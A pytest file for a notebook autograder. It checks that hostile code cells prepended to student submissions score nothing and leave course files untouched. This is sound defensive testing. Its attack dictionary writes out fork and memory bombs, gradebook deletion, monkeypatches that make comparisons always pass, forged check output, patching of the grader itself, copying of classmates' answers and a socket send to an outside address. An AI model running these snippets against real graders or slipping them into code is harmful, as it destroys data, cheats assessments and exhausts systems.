"""One submission per threat: each scores what its honest part earns and leaves the course untouched.

The attack is an extra code cell put in front of a sample's own cells: with carol's (wrong) answers
it must not gain a point; with alice's (right) answers it must not cost the rest of the notebook.
"""
import hashlib
import json
import shutil
from pathlib import Path

import pytest

pytest.importorskip("nbformat")
torch = pytest.importorskip("torch")  # the judge compares with torch
pytestmark = pytest.mark.torch

from autograder.judging import grade_cells  # noqa: E402
from autograder.notebook_io import code_cells, read_submission  # noqa: E402
from autograder.sandbox import Limits, Sandbox  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
COURSE = REPO / "course"
LIMITS = Limits(cell_timeout=8, check_timeout=8, total_timeout=120)

ATTACKS = {
    "input_transformers": "get_ipython().input_transformers_cleanup.append(lambda l: ['pass\\n'])",
    "eq_always_true": (
        "import numpy as np\n"
        "class Liar(np.ndarray):\n"
        "    def __eq__(self, other): return True\n"
        "    __array_priority__ = 1000\n"
        "def add_vjp(g, a, b): return (np.zeros(1).view(Liar), np.zeros(1).view(Liar))\n"),
    "gradebook_and_source": (
        "import os\n"
        "for p in ['../../../gradebook.db', '{course}/gradebook.db', '{course}/source/vjp_rules/vjp_rules.ipynb',\n"
        "          '{course}/submitted/alice/vjp_rules/vjp_rules.ipynb']:\n"
        "    try:\n"
        "        open(p, 'a').write('pwned')\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        "        os.remove(p)\n"
        "    except OSError:\n"
        "        pass\n"),
    "os_exit": "import os\nos._exit(0)",
    "sigint_loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "memory_bomb": "hog = []\nwhile True:\n    hog.append(bytearray(1 << 26))",
    "network": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3).send(b'scores')",
    "stderr": "import sys\nfor _ in range(1000):\n    print('warning: deprecated', file=sys.stderr)",
    "monkeypatch": (
        "import numpy as np, builtins\n"
        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
        "builtins.isinstance = lambda *a: True\n"),
    "fake_passed_output": (
        "import json, os\n"
        "for name in ['unbroadcast', 'add_vjp']:\n"
        "    os.write(3, (json.dumps({{'event': 'check', 'name': name, 'status': 'ok', 'data': None}}) + '\\n').encode())\n"
        "print('19/19 points, all passed')\n"),
    "import_torch": "import torch\nadd_vjp = lambda g, a, b: (g, g)",
    "patch_runner": (  # the runner is __main__ in the sandbox: make every check "ok" with no cases
        "import sys\n"
        "sys.modules['__main__']._run_check = lambda check, namespace, seed, timeout: ('ok', [])\n"),
    "patch_harness": (  # the staged check modules: every harness returns empty or made-up data
        "import autograder.checks as checks\n"
        "for table in checks.CHECKS.values():\n"
        "    for check in table.values():\n"
        "        object.__setattr__(check, 'harness', lambda namespace, seed: [])\n"),
    "array_tricks": (
        "import numpy as np\n"
        "class Shifty:\n"
        "    calls = 0\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        Shifty.calls += 1\n"
        "        return np.full(3, float(Shifty.calls))\n"
        "class Sly(np.ndarray):\n"
        "    def copy(self, order='C'): return np.zeros(3)\n"
        "    def tolist(self): return [0.0] * 3\n"
        "    def astype(self, *a, **k): return self\n"
        "def exp_vjp(g, a): return Shifty()\n"
        "def log_vjp(g, a): return np.asarray(g).view(Sly)\n"
        "def tanh_vjp(g, a): return [g]\n"),
    "read_other_submissions": (  # copy a classmate's answers: their files are not in view
        "import json, glob\n"
        "paths = glob.glob('{course}/submitted/*/vjp_rules/*.ipynb') + glob.glob('{repo}/course/samples/vjp_rules/alice/*.ipynb')\n"
        "for path in paths:\n"
        "    try:\n"
        "        cells = json.load(open(path))['cells']\n"
        "    except Exception:\n"
        "        continue\n"
        "    for cell in cells:\n"
        "        if cell['cell_type'] == 'code':\n"
        "            try:\n"
        "                exec(''.join(cell['source']), globals())\n"
        "            except Exception:\n"
        "                pass\n"),
    "write_outside": (
        "import os\n"
        "for p in ['{course}/escaped', '{repo}/escaped', '/tmp/autograder-escaped', '/root/escaped']:\n"
        "    try:\n"
        "        open(p, 'w').write('out')\n"
        "    except OSError:\n"
        "        pass\n"),
}
# Attacks on the grading code itself: with them in the notebook, nothing of it can be graded, so the
# honest part earns nothing either (the test below leaves them out).
SELF_DEFEATING = ("patch_runner", "patch_harness")


@pytest.fixture(scope="module")
def sandbox():
    box = Sandbox(LIMITS)
    yield box
    box.close()


@pytest.fixture()
def course(tmp_path):
    root = tmp_path / "course"
    (root / "source" / "vjp_rules").mkdir(parents=True)
    (root / "submitted" / "alice" / "vjp_rules").mkdir(parents=True)
    (root / "gradebook.db").write_text("the gradebook")
    (root / "source" / "vjp_rules" / "vjp_rules.ipynb").write_text("the source")
    (root / "submitted" / "alice" / "vjp_rules" / "vjp_rules.ipynb").write_text("alice's work")
    return root


def _escaped() -> list:
    return [p for p in (REPO / "escaped", Path("/tmp/autograder-escaped"), Path("/root/escaped"))
            if p.exists()]


def _fingerprint(root: Path) -> dict:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _score(sandbox, sample, attack, course):
    nb = read_submission(COURSE / "samples" / "vjp_rules" / sample / "vjp_rules.ipynb")
    cells = code_cells(nb)
    attack_cell = ATTACKS[attack].format(course=course, repo=REPO)
    # After the given engine's cells, before the student's answers, as a student would put it.
    results, _ = grade_cells(sandbox, "vjp_rules", [attack_cell] + cells, seed=7)
    return sum(r.points for r in results), results


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_gains_nothing(sandbox, course, attack):
    before = _fingerprint(course)
    points, results = _score(sandbox, "carol", attack, course)
    assert points == 0, [r.feedback for r in results if r.points]
    assert _fingerprint(course) == before
    assert not _escaped()


@pytest.mark.parametrize("attack", sorted(set(ATTACKS) - set(SELF_DEFEATING)))
def test_attack_costs_the_honest_part_nothing(sandbox, course, attack):
    before = _fingerprint(course)
    points, results = _score(sandbox, "alice", attack, course)
    expected = json.loads((COURSE / "samples" / "expected_scores.json").read_text())
    assert points == expected["vjp_rules"]["alice"]["points"], [r.feedback for r in results if not r.points]
    assert _fingerprint(course) == before


def test_sandbox_shows_no_judge_code(sandbox):
    """Student code can read every file it sees: the staged checks hold harnesses, not judges."""
    probe = (
        "import glob, sys\n"
        "files = [p for d in sys.path for p in glob.glob(d + '/autograder/**/*.py', recursive=True)]\n"
        "seen = ''.join(open(p).read() for p in files)\n"
        "raise ValueError(f\"{len(seen)} {'import torch' in seen} {'Hint' in seen} {'_harness' in seen}\")\n")
    run = sandbox.run([probe], "vjp_rules", ["unbroadcast"], seed=1)
    size, torch_code, hints, harnesses = run.cell_errors[0].split(": ", 1)[1].split()
    assert int(size) > 0 and harnesses == "True", "the probe found the staged harness"
    assert (torch_code, hints) == ("False", "False")


def test_sandbox_is_isolated(sandbox):
    assert sandbox.isolated, "bubblewrap is missing: the grader runs with rlimits only"


BATCH = ("fork_bomb", "memory_bomb", "os_exit", "sigint_loop", "gradebook_and_source", "patch_runner")


@pytest.mark.slow
def test_a_batch_with_attackers_finishes_and_scores_everyone(tmp_path):
    """The real pipeline: workers side by side, attackers among honest students, one gradebook."""
    pytest.importorskip("nbgrader")
    import nbformat

    from autograder import cli
    from autograder.gradebook import all_scores, db_url

    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(COURSE / "nbgrader_config.py", course)
    shutil.copytree(COURSE / "source" / "vjp_rules", course / "source" / "vjp_rules")
    cli.release(course, ["vjp_rules"])
    sample = COURSE / "samples" / "vjp_rules"
    for who in ("alice", "bob"):
        (course / "submitted" / who / "vjp_rules").mkdir(parents=True)
        shutil.copy(sample / who / "vjp_rules.ipynb", course / "submitted" / who / "vjp_rules")
    for attack in BATCH:
        nb = nbformat.read(sample / "carol" / "vjp_rules.ipynb", as_version=4)
        nb.cells.insert(1, nbformat.v4.new_code_cell(ATTACKS[attack].format(course=course, repo=REPO)))
        (course / "submitted" / attack.replace("_", "")).mkdir()
        target = course / "submitted" / attack.replace("_", "") / "vjp_rules"
        target.mkdir()
        nbformat.write(nb, target / "vjp_rules.ipynb")
    protected = {p: p.read_bytes() for p in [*(course / "source").rglob("*.ipynb"),
                                              *(course / "submitted").rglob("*.ipynb")]}
    graded = cli.grade(course, workers=2, limits=LIMITS, quiet=True)
    assert len(graded) == 2 + len(BATCH)
    scores = {r["student"]: r["score"] for r in all_scores(db_url(course))}
    expected = json.loads((COURSE / "samples" / "expected_scores.json").read_text())["vjp_rules"]
    assert scores == {"alice": expected["alice"]["points"], "bob": expected["bob"]["points"],
                      **{attack.replace("_", ""): 0 for attack in BATCH}}
    assert all(p.read_bytes() == content for p, content in protected.items())
